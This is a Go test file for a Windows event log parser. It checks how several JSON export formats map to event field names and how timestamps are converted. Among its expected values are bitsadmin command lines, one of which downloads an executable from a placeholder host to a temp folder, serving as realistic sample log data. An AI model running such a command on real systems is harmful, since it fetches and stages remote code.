package winevent

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// fuzzSeed reads the JSON line of a FuzzParse seed: the seeds double as
// the examples of each export shape.
func fuzzSeed(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata/fuzz/FuzzParse", name))
	if err != nil {
		t.Fatalf("seed missing: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	quoted := strings.TrimSuffix(strings.TrimPrefix(lines[len(lines)-1], "[]byte("), ")")
	line, err := strconv.Unquote(quoted)
	if err != nil {
		t.Fatalf("seed %s: %v", name, err)
	}
	return []byte(line)
}

func parseSeed(t *testing.T, name string) Event {
	t.Helper()
	e, err := ParseJSON(fuzzSeed(t, name))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return e
}

func TestExportShapesMapToTheXMLNames(t *testing.T) {
	for _, tc := range []struct {
		seed string
		want map[string][]string
	}{
		{"json-xmltodict", map[string][]string{
			"_time": {"1614035240.794000"}, "host": {"jump01"}, "EventCode": {"4688"}, "Qualifiers": nil,
			"Name":        {"Microsoft-Windows-Security-Auditing"},
			"CommandLine": {`bitsadmin /transfer x http://e/x.exe c:\temp\x.exe`},
			"Empty":       nil, "Data": {"unnamed", "a", "b"}, "xmlns": nil,
		}},
		{"json-velociraptor", map[string][]string{
			"_time": {"1603420603.128449"}, "host": {"WS5"}, "EventCode": {"1"}, "Name": {"Microsoft-Windows-Sysmon"},
			"Image": {`C:\bitsadmin.exe`}, "CommandLine": {"bitsadmin /addfile j http://x"},
			"Param1": {"p"}, "List": {"a"}, "Deeper": {"t"}, "Message": {"m"}, "xmlns": nil,
		}},
		{"json-ecs", map[string][]string{
			"_time": {"1573751415.151551"}, "EventCode": {"4688"}, "source": {"XmlWinEventLog:Security"},
			"NewProcessName": {`C:\bitsadmin.exe`}, "CommandLine": {"bitsadmin /transfer"},
			"Data": {"a", "b"}, "X__": {"1"}, "F": {"v"}, "Image": nil,
		}},
		{"json-ecs-bad-time", map[string][]string{
			"_time": nil, "TimeCreated": {"May 14, 2020 @ 11:33:51.389"}, "EventCode": {"4103"}, "Payload": {"x"},
		}},
		{"json-evtxecmd", map[string][]string{
			"_time": {"1614035240.794000"}, "EventCode": {"4688"}, "Name": {"Microsoft-Windows-Security-Auditing"},
			"CommandLine": {"bitsadmin"}, "Payload": nil, "EventId": nil, "xmlns": nil,
		}},
	} {
		t.Run(tc.seed, func(t *testing.T) {
			e := parseSeed(t, tc.seed)
			for name, want := range tc.want {
				if diff := cmp.Diff(want, e.Fields[name]); diff != "" {
					t.Errorf("%s (-want +got):\n%s", name, diff)
				}
			}
		})
	}
	if _, err := ParseJSON(fuzzSeed(t, "json-evtxecmd-bad-payload")); err == nil || !strings.Contains(err.Error(), "EvtxECmd Payload") {
		t.Errorf("a Payload that is not JSON: error %v, want one naming Payload", err)
	}
}

func TestECSOwnNamesWinOverMovedValues(t *testing.T) {
	e, err := ParseJSON([]byte(`{"process":{"executable":"moved.exe","command_line":"moved"},"winlog":{"event_id":"1","provider_name":"Microsoft-Windows-Sysmon",` +
		`"event_data":{"Image":"own.exe"}},"user":{"domain":"D","name":"u"}}`))
	if err != nil {
		t.Fatal(err)
	}
	checkFields(t, e, map[string]string{"Image": "own.exe", "CommandLine": "moved", "User": `D\u`})
}

func TestLastLineIsTheTemplates(t *testing.T) {
	for text, want := range map[string]int{
		"a\r\nContext:\r\nb":                   3,
		"a\nContext:\nb\nContext:\nc":          13,
		"a Context:\nb":                        -1,
		"Context:":                             0,
		"x\nContext: not alone\nContext:x\n\n": -1,
	} {
		if got := lastLine(text, "Context:"); got != want {
			t.Errorf("lastLine(%q) = %d, want %d", text, got, want)
		}
	}
}

func TestConvertToJSONDates(t *testing.T) {
	for in, want := range map[string]string{
		"/Date(1603420603128)/":      "1603420603.128000",
		"/Date(1603420603128+0200)/": "1603420603.128000",
		"/Date(1603420603128-0700)/": "1603420603.128000",
		"/Date(-1500)/":              "-1.500000",
		"/Date(-1500-0100)/":         "-1.500000",
		"1603420603128)/":            "",
		"/Date(1603420603128":        "",
		"/Date()/":                   "",
		"/Date(+)/":                  "",
		"/Date(99999999999999999)/":  "",
	} {
		got, err := epochSeconds(in)
		if want == "" && err == nil || want != "" && got != want {
			t.Errorf("epochSeconds(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
}
